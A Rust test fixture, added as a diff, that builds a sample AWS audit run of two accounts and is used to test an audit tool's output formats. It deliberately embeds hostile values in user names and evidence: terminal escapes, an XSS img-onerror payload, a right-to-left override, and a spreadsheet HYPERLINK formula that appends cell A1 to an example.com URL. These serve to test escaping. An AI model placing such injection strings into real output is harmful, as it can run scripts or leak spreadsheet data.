@@ -1,0 +1,264 @@
+//! A run of two accounts: every outcome and severity, gaps, an accepted failure, and names made to do harm.
+
+use std::collections::BTreeMap;
+
+use probity_model::finding::EvidenceItem;
+use probity_model::parameter::ParameterValue;
+use probity_model::run::{
+    self, AccountRun, CallCount, CheckRun, ControlReference, GapReport, ParameterInForce, Selection,
+};
+use probity_model::score::Score;
+use probity_model::snapshot::CollectionRequest;
+use probity_model::{
+    AccountId, Arn, Automation, Exception, Family, Finding, Fingerprint, Gap, GapKind, Outcome, Partition, Region,
+    ResourceKind, Run, Scope, Severity, Timestamp, Topic, Unit,
+};
+
+pub(crate) const FIRST: &str = "111122223333";
+pub(crate) const SECOND: &str = "012345678901";
+
+/// A name with an escape sequence, a change of direction, HTML, a pipe, a backtick, a mention and a link.
+pub(crate) const HOSTILE: &str =
+    "\u{1b}[2J\u{9b}31m<img src=x onerror=alert(1)>|`@everyone`|\u{202e}nimda [x](https://example.com) #1\r\n**b**";
+/// What a spreadsheet would take for a formula, behind a tab.
+pub(crate) const FORMULA: &str = "\t=HYPERLINK(\"https://example.com?\"&A1,\"Click\")";
+
+pub(crate) fn account(id: &str) -> AccountId {
+    AccountId::try_from(id).expect("twelve digits")
+}
+
+pub(crate) fn region(name: &str) -> Region {
+    Region::try_from(name).expect("a Region")
+}
+
+fn time(text: &str) -> Timestamp {
+    text.parse().expect("a time")
+}
+
+/// A check that ran.
+fn check(id: &str, family: Family, severity: Severity, fix: &str) -> CheckRun {
+    CheckRun {
+        id: id.to_owned(),
+        family,
+        title: format!("Title of {id}"),
+        severity,
+        scope: Scope::Account,
+        automation: Automation::Automated,
+        summary: "One sentence.".to_owned(),
+        why: "It matters.".to_owned(),
+        pass: "It is so.".to_owned(),
+        fail: "It is not so.".to_owned(),
+        fix: fix.to_owned(),
+        command: String::new(),
+        parameters: Vec::new(),
+        operations: vec!["iam:GenerateCredentialReport".to_owned(), "iam:GetCredentialReport".to_owned()],
+        controls: Vec::new(),
+        outcomes: BTreeMap::new(),
+    }
+}
+
+/// A finding of a check on a resource.
+pub(crate) fn finding(check: &CheckRun, outcome: Outcome, account_id: &str, resource: &str, message: &str) -> Finding {
+    Finding {
+        check: check.id.clone(),
+        family: check.family,
+        title: check.title.clone(),
+        severity: check.severity,
+        outcome,
+        account: account(account_id),
+        region: None,
+        resource_kind: ResourceKind::IamUser,
+        resource: Arn::new(format!("arn:aws:iam::{account_id}:{resource}")),
+        discriminator: String::new(),
+        message: message.to_owned(),
+        evidence: vec![
+            EvidenceItem { key: "mfa_active".to_owned(), value: "false".to_owned() },
+            EvidenceItem { key: "password_last_used".to_owned(), value: "2026-11-20T08:00:00+00:00".to_owned() },
+        ],
+        operations: check.operations.clone(),
+        observed_at: time("2026-11-22T08:00:03Z"),
+        gap: None,
+        exception: None,
+        fingerprint: Fingerprint::of(&[&check.id, account_id, resource, message]),
+    }
+}
+
+fn denied() -> Gap {
+    Gap {
+        kind: GapKind::Denied,
+        operation: Some("cloudtrail:DescribeTrails".to_owned()),
+        region: None,
+        code: Some("AccessDeniedException".to_owned()),
+        message: "User: arn:aws:iam::111122223333:user/auditor is not authorized to perform: cloudtrail:DescribeTrails"
+            .to_owned(),
+    }
+}
+
+fn calls() -> Vec<CallCount> {
+    let count = |operation: &str, region: &str, calls, throttled, failed| CallCount {
+        operation: operation.to_owned(),
+        region: region.to_owned(),
+        calls,
+        requests: calls + throttled,
+        throttled,
+        failed,
+    };
+    vec![
+        count("cloudtrail:DescribeTrails", "eu-central-1", 1, 0, 1),
+        count("cloudtrail:DescribeTrails", "us-east-1", 1, 0, 1),
+        count("iam:GetAccountAuthorizationDetails", "", 14, 2, 0),
+        count("iam:GetCredentialReport", "", 1, 0, 0),
+        count("sts:GetCallerIdentity", "", 1, 0, 0),
+    ]
+}
+
+fn account_run(id: &str, alias: Option<&str>, sample: Option<&str>) -> AccountRun {
+    AccountRun {
+        account: account(id),
+        alias: alias.map(str::to_owned),
+        partition: Partition::new("aws"),
+        caller: Some(Arn::new(format!("arn:aws:sts::{id}:assumed-role/SecurityAudit/anna@example.com"))),
+        regions: vec![region("eu-central-1"), region("us-east-1")],
+        taken_at: time("2026-11-22T08:00:00Z"),
+        finished_at: time("2026-11-22T08:00:09Z"),
+        request: CollectionRequest {
+            detail: "standard".to_owned(),
+            last_accessed: "none".to_owned(),
+            regions: None,
+            endpoint: None,
+            sample: sample.map(str::to_owned),
+        },
+        calls: calls(),
+    }
+}
+
+fn checks() -> [CheckRun; 6] {
+    let mut root = check(
+        "root-mfa-enabled",
+        Family::Root,
+        Severity::Critical,
+        "Register a passkey for the root user.\nKeep a second one in a safe.\n\nA later paragraph.",
+    );
+    root.controls = vec![
+        ControlReference { framework: "cis-7.0".to_owned(), control: "2.4".to_owned(), proposed: false },
+        ControlReference { framework: "nist-800-53".to_owned(), control: "IA-2(1)".to_owned(), proposed: true },
+    ];
+    let mut keys =
+        check("access-key-rotated", Family::Credentials, Severity::Medium, "Create a second key, move to it.");
+    keys.parameters = vec![ParameterInForce {
+        name: "max_age_days".to_owned(),
+        value: ParameterValue::Number(90),
+        unit: Unit::Days,
+        changed: true,
+    }];
+    let trail = "trail-multi-region-logs-management-events";
+    [
+        root,
+        check("user-mfa-console-enabled", Family::Mfa, Severity::High, "Have the user register a device."),
+        keys,
+        check("password-policy-minimum-length", Family::PasswordPolicy, Severity::Low, "Set it to 14 or more."),
+        check(trail, Family::LoggingAndMonitoring, Severity::High, "Create a trail for all Regions."),
+        check("account-contacts-current", Family::Root, Severity::Info, "Look at the contacts in the console."),
+    ]
+}
+
+fn findings(checks: &[CheckRun; 6]) -> Vec<Finding> {
+    let [root, mfa, keys, length, trail, contacts] = checks;
+    let mut key =
+        finding(keys, Outcome::Fail, FIRST, "user/build/deployer", "access key 1 is 400 days old, more than 90");
+    key.discriminator = "access_key_1".to_owned();
+    let mut accepted =
+        finding(keys, Outcome::Fail, SECOND, "user/legacy", "access key 2 is 900 days old, more than 90");
+    accepted.exception = Some(Exception {
+        reason: "the mainframe takes no role | yet".to_owned(),
+        owner: "platform@example.com".to_owned(),
+        ticket: Some("SEC-42".to_owned()),
+        expires: Some("2027-01-31".to_owned()),
+    });
+    let mut formula = finding(length, Outcome::Fail, FIRST, "user/formula", FORMULA);
+    formula.evidence = vec![EvidenceItem { key: "name".to_owned(), value: HOSTILE.to_owned() }];
+    let lost = |account: &str, place: &str| {
+        let gap = denied().in_region(&region(place));
+        let mut finding = finding(trail, Outcome::NotEvaluated, account, "root", &gap.to_string());
+        finding.resource_kind = ResourceKind::Region;
+        finding.region = Some(region(place));
+        finding.gap = Some(gap);
+        finding
+    };
+    vec![
+        finding(root, Outcome::Fail, FIRST, "root", "the root user has no MFA device"),
+        finding(mfa, Outcome::Fail, FIRST, &format!("user/{HOSTILE}"), &format!("{HOSTILE} signs in without MFA")),
+        finding(mfa, Outcome::Fail, SECOND, "user/名前", "signs in with a password alone 🔑"),
+        key,
+        accepted,
+        formula,
+        lost(FIRST, "eu-central-1"),
+        lost(FIRST, "us-east-1"),
+        lost(SECOND, "eu-central-1"),
+        finding(contacts, Outcome::Manual, FIRST, "root", "look at the contacts under Account in the console"),
+        finding(root, Outcome::Pass, SECOND, "root", "the root user has a hardware device"),
+        finding(length, Outcome::NotApplicable, SECOND, "root", "there is no IAM user"),
+    ]
+}
+
+/// The run of a list of findings, its counts and score worked out.
+fn run_of(accounts: Vec<AccountRun>, mut checks: Vec<CheckRun>, findings: Vec<Finding>, gaps: Vec<GapReport>) -> Run {
+    for check in &mut checks {
+        for finding in findings.iter().filter(|finding| finding.check == check.id) {
+            *check.outcomes.entry(finding.outcome).or_default() += 1;
+        }
+    }
+    let severity = |id: &str| checks.iter().find(|check| check.id == id).map(|check| check.severity);
+    let score = Score::of(&findings, severity);
+    Run {
+        format: run::FORMAT.to_owned(),
+        version: run::VERSION,
+        tool_version: "0.1.0".to_owned(),
+        id: "0123456789abcdef".to_owned(),
+        started_at: time("2026-11-22T08:00:00Z"),
+        finished_at: time("2026-11-22T08:00:09Z"),
+        selection: Selection { only: Vec::new(), skip: vec!["family:organizations".to_owned()] },
+        accounts,
+        score,
+        checks,
+        findings,
+        gaps,
+    }
+}
+
+/// The run of two accounts that every format is tested on.
+pub(crate) fn run() -> Run {
+    let checks = checks();
+    let findings = findings(&checks);
+    let lost = |account_id: &str, place: &str| GapReport {
+        account: account(account_id),
+        topic: Topic::Trails,
+        gap: denied().in_region(&region(place)),
+        checks: vec!["trail-multi-region-logs-management-events".to_owned()],
+    };
+    let not_asked = GapReport {
+        account: account(FIRST),
+        topic: Topic::LastAccessed,
+        gap: Gap::not_requested("last-accessed data was not asked for: use --last-accessed privileged"),
+        checks: Vec::new(),
+    };
+    let gaps = vec![lost(FIRST, "eu-central-1"), lost(FIRST, "us-east-1"), lost(SECOND, "eu-central-1"), not_asked];
+    let accounts = vec![account_run(FIRST, Some("larkspur-labs"), None), account_run(SECOND, None, None)];
+    run_of(accounts, checks.to_vec(), findings, gaps)
+}
+
+/// A sample account without a failure, where most could not be read.
+pub(crate) fn sample() -> Run {
+    let checks = checks();
+    let kept = |finding: &Finding| finding.account.as_str() == FIRST && finding.outcome != Outcome::Fail;
+    let findings = findings(&checks).into_iter().filter(kept).collect();
+    let account = account_run(FIRST, Some("larkspur-labs"), Some("an invented company of 40 people"));
+    run_of(vec![account], checks.to_vec(), findings, Vec::new())
+}
+
+/// An account with one check that fails `count` times, on users whose names tell them apart.
+pub(crate) fn many(count: usize) -> Run {
+    let [_, mfa, ..] = checks();
+    let users = (0..count).map(|n| finding(&mfa, Outcome::Fail, FIRST, &format!("user/user-{n:06}"), "has no MFA"));
+    run_of(vec![account_run(FIRST, None, None)], vec![mfa.clone()], users.collect(), Vec::new())
+}
